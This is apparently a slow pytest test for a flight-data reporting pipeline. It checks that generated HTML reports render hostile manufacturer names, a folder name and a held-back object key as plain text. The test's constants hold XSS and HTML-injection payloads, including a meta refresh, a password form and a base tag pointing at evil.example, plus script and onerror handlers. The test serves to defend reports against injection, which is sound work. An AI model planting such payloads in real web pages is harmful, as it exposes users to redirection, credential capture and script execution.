"""Names that try to be HTML reach a report as what they are: text. The assets build it of hostile files."""

from __future__ import annotations

import gzip
import json
from html.parser import HTMLParser
from pathlib import Path

import pytest

from opensky_assets.report.html import script
from opensky_assets_tests.chromium import BROWSER, chromium
from opensky_assets_tests.dagster.conftest import Platform
from opensky_assets_tests.flight_lists import AIRCRAFT, flight, write_list
from opensky_assets_tests.state_files import epoch

pytestmark = pytest.mark.slow

BEFORE, DAY = "2022-06-24", "2022-06-25"
NAMES = [
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<form action=http://evil.example><input name=password></form>",
    "</svg><script>alert(1)</script>",
    "</style><base href=http://evil.example>",
    "\" onload='alert(1)' x=\"",
    "font: 'a &lt;b&gt;",
    "$\\frac{1$",
    "<!-- --><img src=x onerror=alert(1)>",
]
HOSTILE_FOLDER = "<img src=x onerror=alert(2)>"
HELD_KEY = "flights/all_<iframe src=x>.json.gz"
ELEMENTS = {
    "html", "head", "meta", "title", "link", "style", "body", "header", "main", "section", "footer", "aside", "h1",
    "h2", "p", "strong", "dl", "div", "dt", "dd", "small", "figure", "details", "summary", "table", "thead", "tbody",
    "tr", "th", "td", "ul", "li", "i", "svg", "g", "path", "use", "defs", "clippath", "rect", "text", "tspan", "h3",
    "script",
}  # fmt: skip


class Content(HTMLParser):
    """The elements of a page with their attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attributes)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


@pytest.fixture
def reports(platform: Platform) -> list[Path]:
    """The pages of a day and of all days."""
    path = platform.bucket / "metadata" / "aircraftDatabase.csv"
    path.parent.mkdir()
    *head, line = AIRCRAFT.splitlines()
    made = [
        line.replace('"4b1801"', f'"4b18{at:02x}"').replace('"AIRBUS"', '"' + name.replace('"', '""') + '"')
        for at, name in enumerate(NAMES)
    ]
    path.write_text("\n".join([*head, *made]) + "\n")
    lines = [flight(DAY, icao24=f"4b18{at:02x}", hour=2 + n) for at in range(len(NAMES)) for n in range(20 - at)]
    write_list(platform.bucket, BEFORE, BEFORE, [flight(BEFORE, icao24="4b1800")])
    path = write_list(platform.bucket, DAY, DAY, lines)
    (path.parent / HOSTILE_FOLDER).mkdir()
    path.rename(path.parent / HOSTILE_FOLDER / path.name)
    record = {"icao24": "4b18ff", "firstSeen": epoch(DAY, 1), "lastSeen": epoch(DAY, 2), "callsign": "SWR1"}
    answer = gzip.compress(json.dumps([record]).encode())
    (platform.bucket / HELD_KEY).write_bytes(answer[:-10])
    assert platform.run(["aircraft_database", "airports"]).success
    marts = ["airport_movements_hourly", "airport_traffic", "routes", "od_matrix", "manufacturers"]
    marts += ["aircraft_utilisation", "data_quality_daily"]
    platform.run(["raw_flights", "flights", "enriched_flights", *marts, "daily_report"], BEFORE, DAY)
    assert platform.materialized("daily_report") == [DAY]  # the run fails last of all, for the object that is held back
    assert platform.run(["range_report"]).success
    return sorted(platform.lake.path("reports").glob("*/report.html"))


def test_no_name_becomes_an_element(reports: list[Path]) -> None:
    assert len(reports) == 2
    for report in reports:
        content = Content(report.read_text())
        assert {tag for tag, _ in content.elements} <= ELEMENTS
        metas = [attributes for tag, attributes in content.elements if tag == "meta"]
        assert [meta.get("http-equiv") for meta in metas] == [None, "Content-Security-Policy", None]
        assert {"form-action 'none'", "base-uri 'none'", "default-src 'none'"} <= {
            part.strip() for part in str(metas[1]["content"]).split(";")
        }
        assert not [name for _, attributes in content.elements for name in attributes if name.startswith("on")]
        assert [attributes for tag, attributes in content.elements if tag == "script"] == [{}]
        assert report.read_text().count(script()) == 1  # ours, as it is, and no other
        # And they are shown: whole in the table, in the first words of the lead, as a name beside a bar.
        text = " ".join(content.text)
        for name in NAMES:
            assert name.upper() in content.text, name
        assert f"{NAMES[0].title()} flies " in text
        assert "$\\Frac{1$" in content.text  # beside its bar, no formula
        assert f"flights/{HOSTILE_FOLDER}/flightlist" in text
        assert f"1 object is held back: {HELD_KEY}: does not unpack" in text
        labels = [attributes["aria-label"] for tag, attributes in content.elements if tag == "svg"]
        assert any(str(label).startswith(f"Manufacturers. {NAMES[0].title()} flies") for label in labels)

    if BROWSER is not None:
        with chromium() as tab:
            for report in reports:
                tab.open(report, 390, 900, False)
                assert tab.ask("document.documentElement.scrollWidth") <= 390
                assert tab.requests == [report.resolve().as_uri()]
                assert tab.complaints == []
                assert tab.ask("document.querySelectorAll('form, base, img, iframe').length") == 0
                assert tab.ask("document.querySelectorAll('script').length") == 1
                # The script shows a name as text too.
                tab.ask("document.querySelector('#manufacturers svg').focus()")
                tab.press("ArrowDown")
                assert tab.ask("document.querySelector('#manufacturers .tip strong').textContent") == NAMES[0].title()
                assert tab.ask("document.querySelectorAll('form, base, img, iframe, meta').length") == 3
                assert tab.complaints == [] and tab.requests == [report.resolve().as_uri()]
